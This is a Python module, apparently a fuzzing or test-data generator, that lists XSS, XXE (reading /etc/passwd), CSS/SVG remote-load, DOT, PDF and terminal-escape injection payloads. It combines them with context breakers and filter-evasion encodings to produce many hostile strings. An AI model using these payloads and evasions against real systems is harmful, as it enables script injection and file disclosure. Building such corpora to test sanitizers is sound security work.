"""Texts that want to be something else: what people have tried on pages, mails and terminals, in as many disguises as are asked for."""

from collections.abc import Callable, Iterator
from itertools import product
from urllib.parse import quote

ACTIVE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<set attributeName=href to=javascript:alert(1)>",
    "<foreignObject><body onload=alert(1)>",
    "<a href=javascript:alert(1)>press</a>",
    "<a xlink:href='javascript:alert(1)'><text>press</text></a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>*{background:url(http://evil.example/x)}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<use href='http://evil.example/x.svg#a'/>",
    "<image href='http://evil.example/x.png'/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<handler type='application/ecmascript'>alert(1)</handler>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    'label=<<TABLE HREF="javascript:alert(1)">>',
    '", URL="javascript:alert(1)", x="',
    '\\N\\G\\E\\T\\H]; evil [URL="javascript:alert(1)"',
    "(S) /JavaScript (alert(1)) /OpenAction << /S /JavaScript >>",
    "\x1b]8;;http://evil.example\x07press\x1b]8;;\x07",
)
"""Each would do something, were it taken for more than text."""

_CLOSERS = ("", '">', "'>", "]]>", "--><", "</text></g></svg>", "</title>", "</style>", "</desc>", "&#60;", ">", "\\")
"""What might end the place that a text stands in."""


def _plain(text: str) -> str:
    return text


_DISGUISES: tuple[Callable[[str], str], ...] = (
    _plain,
    str.upper,
    lambda text: "".join(f"{letter}\u200b" for letter in text),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: "".join(f"&#{ord(letter)};" for letter in text),
    quote,
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: f"\u202e{text}\u202c",
    lambda text: text.replace(" ", "\x0c").replace("script", "scr\x00ipt"),
)
"""Ways to get past who looks for the text as it is; once decoded, each is itself again."""


def payloads(count: int) -> Iterator[str]:
    """So many different hostile texts, spread evenly over all that can be put together; the same ones every time."""
    everything = [disguise(f"{closer}{text}") for disguise, closer, text in product(_DISGUISES, _CLOSERS, ACTIVE)]
    different = list(dict.fromkeys(everything))
    if count > len(different):
        raise ValueError(f"there are {len(different)} hostile texts, {count} were asked for")
    return (different[place * len(different) // count] for place in range(count))
